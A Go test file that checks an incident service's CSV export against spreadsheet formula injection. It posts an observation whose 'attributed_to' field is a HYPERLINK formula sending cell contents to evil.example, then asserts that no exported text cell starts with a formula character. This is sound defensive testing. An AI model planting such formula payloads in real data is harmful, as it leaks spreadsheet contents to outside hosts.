package api_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/accord-peace/accord/export"
)

// A CSV export is opened in spreadsheets (docs/monitoring.md, package
// export): a text cell that begins with =, +, -, @, a tab or a carriage
// return is taken there as a formula and run. The text of an incident
// comes from outside: an observation's attributed_to is any string, and
// becomes the party of the incident's violations. Posted to a real
// server, an observation attributed to a formula must not give a cell a
// spreadsheet would run.
func TestCSVExportCellsAreNotFormulas(t *testing.T) {
	srv, _ := newServer(t)
	who := `=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")`
	obs := strings.Replace(strings.Replace(line, "ID", "f1", 1), `"attributed_to":"unknown"`, `"attributed_to":"`+who+`"`, 1)
	if code, out := post(t, srv.URL, "application/x-ndjson", obs+"\n"); code != 200 {
		t.Fatalf("post: %d %v", code, out)
	}
	resp, body := get(t, srv.URL+"/v1/incidents?format=csv")
	if resp.StatusCode != 200 {
		t.Fatalf("export: %d %s", resp.StatusCode, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := export.CSVHeader()
	types := map[string]export.Type{}
	for _, f := range export.Fields {
		types[f.Name] = f.Type
	}
	parties := 0
	for _, row := range rows[1:] {
		for i, cell := range row {
			if types[header[i]] != export.String || cell == "" {
				continue
			}
			if header[i] == "violation_parties" {
				parties++
			}
			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("incident %s, column %s: %q would be run as a formula by a spreadsheet", row[0], header[i], cell)
			}
		}
	}
	if parties == 0 {
		t.Fatalf("no incident has a violation attributed to a party; the test proves nothing:\n%s", body)
	}
}
